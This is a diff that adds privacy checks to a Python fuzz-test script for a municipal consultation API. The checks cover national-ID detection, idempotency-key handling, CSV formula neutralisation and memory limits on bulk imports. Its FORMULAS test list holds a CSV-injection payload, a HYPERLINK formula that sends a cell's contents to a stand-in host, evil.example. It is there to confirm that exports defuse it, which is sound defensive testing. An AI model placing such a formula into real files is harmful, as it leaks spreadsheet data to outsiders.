@@ -4,8 +4,15 @@
 data must be unchanged (every municipality's full export and the admin change feed, before and after).
 Idle connections and request bodies that never finish must be dropped by the server.
 
+Then the privacy checks, which do write: national identity numbers in every common spelling are flagged and
+cannot be published, CSV cells that start a formula are neutralised and import back exactly, Idempotency-Key
+is compared as sent (percent signs and all), and 32 concurrent imports of a 1 MiB bad CSV raise the server's
+peak RSS (MEDVIRK_SERVER_PID) by less than 64 MB.
+
 Usage: fuzz.py BASE_URL ADMIN_TOKEN PARTNER_TOKEN [seed]
 """
+import concurrent.futures
+import os
 import gzip
 import json
 import random
@@ -192,6 +199,102 @@ def main():
     print(f"timeouts: idle connection closed after {idle_seconds:.1f} s, stalled body answered {status} after {slow_seconds:.1f} s, "
           f"trickling body answered {trickle_status} after {trickle_seconds:.1f} s")
     assert snapshot() == after
+    privacy_checks()
+
+
+NATIONAL_IDS = ["120385 1233", "120385 - 1233", "120385 \u2013 1233", "120385\u20141233", "12.03.85-1233", "12.03.85 1233",
+                "120385-1233", "1203851233", "311299 49980", "31129949980"]
+NOT_NATIONAL_IDS = ["+45 31 12 85 12", "1.203.851.233 kr.", "RUD-2026-000123", "12.03.85", "12.03.1985-1233", "320385 1233"]
+FORMULAS = ['=HYPERLINK("https://evil.example/?d="&I3,"Klik")', "+1", "-1", "@SUM(A1)", "\tTab", "\rCR", "'=1+2", "'plain", "'"]
+
+
+def json_call(method, path, payload, token=ADMIN, headers=None):
+    status, body = call(method, path, json.dumps(payload).encode(), {"Content-Type": "application/json", **(headers or {})}, token=token)
+    return status, (json.loads(body) if body else {})
+
+
+def peak_rss_kib():
+    pid = os.environ.get("MEDVIRK_SERVER_PID")
+    if not pid:
+        return None
+    with open(f"/proc/{pid}/status") as status:
+        for line in status:
+            if line.startswith("VmHWM:"):
+                return int(line.split()[1])
+    return None
+
+
+def privacy_checks():
+    stamp = int(time.time())
+    municipality = f"fuzz{stamp % 100000}"
+    status, _ = json_call("POST", "/v1/municipalities", {"id": municipality, "name": "Fuzz", "country": "DK", "time_zone": "Europe/Copenhagen"})
+    assert status == 201, status
+    _, area = json_call("POST", "/v1/service-areas", {"municipality_id": municipality, "name": "Kultur"})
+    status, consultation = json_call("POST", "/v1/consultations", {
+        "municipality_id": municipality, "title": "Fuzz", "status": "published", "opens_at": "2020-01-01T00:00:00Z",
+        "closes_at": "2099-01-01T00:00:00Z"})
+    assert status == 201, consultation
+    responses = f"/v1/consultations/{consultation['id']}/responses"
+
+    # National identity numbers: flagged and unpublishable in every spelling; the look-alikes are not flagged.
+    for n, number in enumerate(NATIONAL_IDS + NOT_NATIONAL_IDS):
+        status, response = json_call("POST", responses, {"respondent": {"kind": "citizen", "name": "F"}, "text": f"Nr. {number} her"},
+                                     token=PARTNER, headers={"Idempotency-Key": f"nid-{stamp}-{n}"})
+        assert status == 201, response
+        assert response["contains_national_id"] == (number in NATIONAL_IDS), f"{number!r}: {response['contains_national_id']}"
+        status, problem = call("PATCH", f"/v1/responses/{response['id']}", b'{"status":"published"}',
+                               {"Content-Type": "application/merge-patch+json"})
+        assert status == (422 if number in NATIONAL_IDS else 200), f"publishing {number!r} answered {status}"
+
+    # Idempotency-Key as sent: dup-%41 is not dup-A, and a%20b is a valid key of its own.
+    answers = {}
+    for key in ["dup-A", "dup-%41", "a%20b", "a%20b"]:
+        status, response = json_call("POST", responses, {"respondent": {"kind": "citizen", "name": "K"}, "text": key},
+                                     token=PARTNER, headers={"Idempotency-Key": f"{stamp}-{key}"})
+        assert status == 201, (key, response)
+        answers.setdefault(key, set()).add(response["receipt_number"])
+    assert answers["dup-A"] != answers["dup-%41"] and len(answers["a%20b"]) == 1, answers
+
+    # Formula cells: neutralised on export, imported back exactly.
+    for name in FORMULAS:
+        status, body = json_call("POST", "/v1/dialogue-channels", {
+            "municipality_id": municipality, "service_area_id": area["id"], "target_group": "service_users",
+            "user_category": "culture", "purpose": "formal", "kind": "sms", "name": name})
+        assert status == 201, body
+    status, exported = call("GET", f"/v1/dialogue-overview?municipality={municipality}&format=csv")
+    assert status == 200
+    text = exported.decode("utf-8-sig")
+    for line in text.split("\r\n")[1:]:
+        for cell in line.split('","'):
+            cell = cell.strip('"')
+            assert not cell or cell[0] not in "=+-@\t\r" or cell == "-", f"live formula cell {cell!r}"
+    copy = municipality + "c"
+    json_call("POST", "/v1/municipalities", {"id": copy, "name": "Copy", "country": "DK", "time_zone": "Europe/Copenhagen"})
+    status, body = call("POST", f"/v1/dialogue-channels/import?municipality={copy}", exported, {"Content-Type": "text/csv"})
+    assert status == 200, body
+    status, body = call("GET", f"/v1/dialogue-channels?municipality={copy}&limit=50")
+    assert sorted(c["name"] for c in json.loads(body)["data"]) == sorted(FORMULAS), body
+
+    # 32 concurrent imports of a 1 MiB CSV of bad rows: capped error lists, bounded memory.
+    row = "X,bogus,bogus,bogus,bogus,\r\n"
+    bad = ("service_area,target_group,user_category,purpose,kind,name\r\n" + row * ((1 << 20) // len(row) - 4)).encode()
+    before = peak_rss_kib()
+
+    def bad_import(_):
+        return call("POST", f"/v1/dialogue-channels/import?municipality={municipality}", bad, {"Content-Type": "text/csv"}, timeout=120)
+    with concurrent.futures.ThreadPoolExecutor(32) as pool:
+        results = list(pool.map(bad_import, range(32)))
+    for status, body in results:
+        problem = json.loads(body)
+        assert status == 422 and len(problem["errors"]) == 100 and problem["error_count"] > 100000, (status, body[:200])
+        assert len(body) < 64 * 1024, f"a 422 of {len(body)} bytes"
+    after = peak_rss_kib()
+    if before is not None:
+        grown = (after - before) / 1024
+        assert grown < 64, f"32 concurrent bad imports raised the peak RSS by {grown:.1f} MB"
+        print(f"privacy: national ids, formula cells and keys checked; 32 bad imports raised peak RSS by {grown:.1f} MB")
+    else:
+        print("privacy: national ids, formula cells and keys checked (no MEDVIRK_SERVER_PID: memory not measured)")
 
 
 def trickle():
